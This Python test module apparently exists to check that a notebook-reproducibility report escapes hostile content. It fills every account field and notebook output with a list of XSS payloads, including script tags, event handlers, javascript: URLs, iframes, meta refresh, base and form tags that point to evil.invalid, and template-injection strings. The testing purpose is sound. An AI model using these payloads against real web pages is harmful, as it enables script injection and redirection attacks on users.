"""What a hostile notebook may try, and an account that says it in every field there is."""

import base64
from dataclasses import fields, replace
from typing import Any

from recrate.compare.judge import judge
from recrate.model.environment import Card, Lock, NotRestored, Package, Unrestored
from recrate.model.finding import Finding, Severity
from recrate.model.observation import (
    EnvironmentSeen,
    NotebookObservation,
    Observation,
    RunError,
    WrittenFile,
)
from recrate.model.policy import Policy, Waiver
from recrate.model.study import Notebook
from recrate.model.verdict import Cause, Claim, Failure, Judgement, Verdict
from recrate.report.account import Account
from ui.reports import bundle, code, error, notebook, prose, stream

OWN = "window.__owned=1"
PAYLOADS = (
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f"</textarea></pre></code><script>{OWN}</script>",
    f"--><script>{OWN}</script><!--",
    f"]]><script>{OWN}</script>",
    f"<img src=x onerror={OWN}>",
    f'"><img src=x onerror={OWN}>',
    f"' autofocus tabindex=1 onfocus='{OWN}' x='",
    f'" onmouseover="{OWN}" x="',
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f"<noscript><p title='</noscript><img src=x onerror={OWN}>'>",
    f"<template><script>{OWN}</script></template>",
    f"<details open ontoggle={OWN}>x</details>",
    f"<xmp><script>{OWN}</script></xmp><plaintext>",
    f"<a href='javascript:{OWN}'>a</a>",
    f"<a href='JaVa\tScript:{OWN}'>b</a>",
    f"<a href='data:text/html,<script>{OWN}</script>'>c</a>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f'<iframe srcdoc="\'><script>parent.{OWN}</script>"></iframe>',
    "<iframe src='https://evil.invalid/'></iframe>",
    "<object data='https://evil.invalid/'></object><embed src='https://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href='https://evil.invalid/'>",
    "<form action='https://evil.invalid/'><input name=a><button>go</button></form>",
    "<style>@import url(https://evil.invalid/a.css);main{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.invalid/b.png)'>cover</p>",
    "<img src='https://evil.invalid/c.png'><img src='//evil.invalid/d.png'>",
    "<img srcset='https://evil.invalid/e.png 1x'><img src='https://evil.invalid/?",
    "<link rel=stylesheet href='https://evil.invalid/f.css'>",
    "<table background='https://evil.invalid/g.png'><tr><td>1</td></tr></table>",
    f"<video src='https://evil.invalid/v.mp4' onerror={OWN} autoplay></video>",
    "<p id=verdict>x</p><input id=show-all name=show checked><form id=language-en></form>",
    "</td></tr></table></div></article></details></section></main></body></html><h1>Identical</h1>",
    "{{ 7*7 }}{% raw %}{0} {__class__}",
    "\u202egnp.exe\u200b\x00\x1b[31m\ud800",
)
EVERY = " ".join(PAYLOADS)


def hostile_account(*, restored: bool) -> Account:
    """Every payload in every text field, and once more in every kind of output.

    restored: False makes it the account of an environment that could not be had
    """
    path = PAYLOADS[8] + "/" + PAYLOADS[0] + ".ipynb"
    recorded = {path: _notebook("")}
    reruns = ({path: _notebook(" changed")}, {path: _notebook("")})
    observation = _observation(path)
    verdict = judge(recorded, (observation, observation), reruns, Policy())
    refusal = NotRestored(cause="memory", message=EVERY, evidence=EVERY, hint=EVERY)
    seen = observation if restored else replace(observation, not_restored=refusal)
    return Account(
        verdict=_poisoned(verdict),
        observations=(seen, seen),
        recorded=recorded,
        reruns=reruns,
        crate_name=EVERY,
        crate_identity=EVERY,
        crate_location=EVERY,
        lock=_lock(),
        title=EVERY,
        creators=(EVERY,),
        licence=EVERY,
        generated_by=EVERY,
    )


def _notebook(suffix: str) -> Notebook:
    cells = []
    for payload in PAYLOADS:
        cells += [prose(payload), code(payload, *_outputs(payload, payload + suffix))]
    return notebook(*cells)


def _outputs(payload: str, text: str) -> list[dict[str, Any]]:
    drawn = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{OWN}'><script>{OWN}</script>"
        f"<image href='https://evil.invalid/i.png'/><text>{text}</text></svg>"
    )
    in_html = base64.b64encode(drawn.encode("utf-8", "replace")).decode()
    return [
        stream(text),
        stream(text, payload),
        bundle({"text/html": text, "text/plain": text}),
        bundle({"text/html": f"<table><tr><td>{text}</td><td>1</td></tr></table>"}),
        bundle({"text/html": f"<img alt='{payload}' src='data:image/svg+xml;base64,{in_html}'>"}),
        bundle({"image/svg+xml": drawn}),
        bundle({"text/markdown": text}),
        bundle({"text/latex": text}),
        bundle({"application/javascript": text}),
        bundle({payload: text}),
        bundle({"image/png": text}),
        bundle({"application/json": {payload: text}}),
        error(payload, text),
    ]


def _observation(path: str) -> Observation:
    stop = RunError(name=EVERY, message=EVERY, cell=3, traceback=EVERY)
    run = NotebookObservation(
        path=path,
        status="failed",
        seconds=1,
        rerun=path,
        error=stop,
        written=(WrittenFile(path=EVERY, sha256=EVERY, size_bytes=1),),
        deleted=(EVERY,),
        notes=(EVERY,),
    )
    seen = EnvironmentSeen(
        language=EVERY,
        python=EVERY,
        packages=(Package(name=EVERY, version="1"),),
        restored=False,
        seconds=1,
        differences=(EVERY,),
        notes=(EVERY,),
        card=_card(),
    )
    return Observation(
        crate=EVERY,
        crate_name=EVERY,
        repeat=0,
        agent=EVERY,
        started=EVERY,
        ended=EVERY,
        runner=EVERY,
        sandbox=EVERY,
        environment=seen,
        notebooks=(run,),
        parameters=((EVERY, EVERY),),
        notes=(EVERY,),
    )


def _card() -> Card:
    return Card(**{field.name: EVERY for field in fields(Card) if field.type is str})


def _lock() -> Lock:
    return Lock(
        language=EVERY,
        python=EVERY,
        packages=(Package(name=EVERY, version="2"),),
        pylock=EVERY,
        requirements=EVERY,
        dockerfile=EVERY,
        source="mixed",
        as_of=EVERY,
        card=_card(),
        notes=(EVERY,),
        unrestored=(Unrestored(name=EVERY, reason=EVERY),),
        kernel=EVERY,
    )


def _poisoned(verdict: Verdict) -> Verdict:
    """Put the payloads into what the judge would have said in its own words."""
    first = verdict.notebooks[0]
    cells = tuple(
        replace(
            cell,
            outputs=tuple(
                replace(output, reason=EVERY, rules=(EVERY,), cause=Cause.NOT_KNOWN, evidence=EVERY)
                if not place % 7
                else output
                for place, output in enumerate(cell.outputs)
            ),
        )
        for cell in first.cells
    )
    failure = Failure(
        name=EVERY, message=EVERY, cell=3, cause=Cause.MEMORY, evidence=EVERY, hint=EVERY
    )
    waiver = Waiver(path=EVERY, cell=0, output=0, reason=EVERY)
    finding = Finding(
        severity=Severity.ERROR, code=EVERY, where=EVERY, message=EVERY, hint=EVERY, path=EVERY
    )
    return replace(
        verdict,
        notebooks=(replace(first, cells=cells, error=failure, notes=(EVERY,)),),
        sentence=EVERY,
        judge=EVERY,
        policy=Policy(name=EVERY, waivers=(waiver,)),
        findings=(finding,),
        claims=(Claim(path=EVERY, cell=0, title=EVERY, verdict=Judgement.RAN, reason=EVERY),),
    )
